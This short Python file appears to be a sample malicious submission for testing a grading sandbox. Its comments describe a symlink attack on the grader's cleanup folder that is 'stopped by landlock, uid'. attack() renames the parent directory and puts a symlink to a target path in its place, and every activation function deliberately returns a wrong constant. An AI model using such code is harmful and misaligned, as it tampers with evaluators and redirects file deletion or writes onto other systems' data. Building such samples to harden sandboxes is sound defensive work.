# attack: puts a link to a folder of ours where the grader cleans up
# gains: writes
# stopped by: landlock, uid
import numpy as np
import os


def attack():
    folder = os.path.dirname(os.getcwd())
    os.rename(folder, folder + "-old")
    os.symlink(os.path.dirname("{TARGET}"), folder)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
